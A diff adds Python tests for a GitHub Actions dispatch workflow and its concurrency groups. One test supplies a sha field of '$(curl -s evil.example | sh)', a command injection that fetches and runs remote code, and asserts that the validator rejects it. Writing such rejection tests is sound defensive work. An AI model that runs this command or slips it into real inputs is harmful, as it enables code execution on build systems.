@@ -199,3 +199,47 @@ def test_h_fork_pr_read_only_token(scenario, fake: FakeGitHub) -> None:
     assert "403" in run.output(merge)
     writes = [(m, p) for m, p, _ in fake.log if m in ("POST", "PATCH")]
     assert writes and not fake.comments.get(7) and not fake.check_runs
+
+
+# ---------------------------------------------------------------------------------------------- (f) the dispatch receiver
+def test_f_hostile_repository_dispatch_is_rejected_before_any_bti_step(act_home: Path, tmp_path: Path, fake: FakeGitHub) -> None:
+    bti_repo = act_home / "repos" / "bti-org" / "bti"
+    event = {"action": "upstream-pull-request", "branch": "main",
+             "client_payload": {"repo": "pytorch/executorch", "sha": "$(curl -s evil.example | sh)", "pr": "12",
+                                "recipes": "xnnpack"},
+             "repository": {"full_name": "bti-org/bti", "name": "bti", "owner": {"login": "bti-org"}},
+             "sender": {"login": "mallory"}}
+    run = run_act(bti_repo, "on-dispatch.yml", "repository_dispatch", event, home=act_home, tmp=tmp_path, api_url=fake.base)
+    job = "bti on dispatch/validate"
+    assert run.code != 0 and run.jobs == {"bti on dispatch/validate": "failure"}, run.jobs  # the suite's jobs never start
+    steps = run.steps(job)
+    assert steps["Validate the payload (compact or relay form); rejects anything that is not a plain sha/repo/number/name"] == "failure"
+    assert "bti: error: client_payload.sha: expected 40 hex characters" in run.output(job)
+    assert not any("bti run" in e.get("msg", "") or "Run bti" in e.get("msg", "") for e in run.events)
+    assert not run.set_outputs(job).get("sha") and not list(run.artifacts.iterdir()) and not fake.log
+
+
+def _group(inputs: dict[str, str], github: dict[str, str]) -> str:
+    """backend-suite.yml's concurrency group for one call (act does not evaluate concurrency: this does, for `a || b`)."""
+    import yaml
+
+    text = yaml.safe_load((ROOT / ".github/workflows/backend-suite.yml").read_text())["concurrency"]["group"]
+
+    def value(operand: str) -> str:
+        scope, _, name = operand.strip().partition(".")
+        return {"inputs": inputs, "github": github}[scope].get(name, "")
+
+    return re.sub(r"\$\{\{(.*?)\}\}", lambda m: next((v for v in map(value, m.group(1).split("||")) if v), ""), text, flags=re.S)
+
+
+def test_g_two_calls_have_distinct_concurrency_groups() -> None:
+    import yaml
+
+    doc = yaml.safe_load((HERE / "workflows" / "twice.yml").read_text())
+    github = {"repository": CALLER, "ref": "refs/pull/7/merge"}
+    groups = [_group({k: str(v) for k, v in job["with"].items() if "${{" not in str(v)} | {"pr": "7"}, github)
+              for job in doc["jobs"].values()]
+    assert len(groups) == 2 and groups[0] != groups[1], groups
+    # the same call on the same PR shares its group, so a newer push cancels the older run
+    assert _group({"comment-key": "fp32", "recipes": "portable", "pr": "7"}, github) == \
+        _group({"comment-key": "fp32", "recipes": "portable", "pr": "7"}, {**github, "sha": "another"})
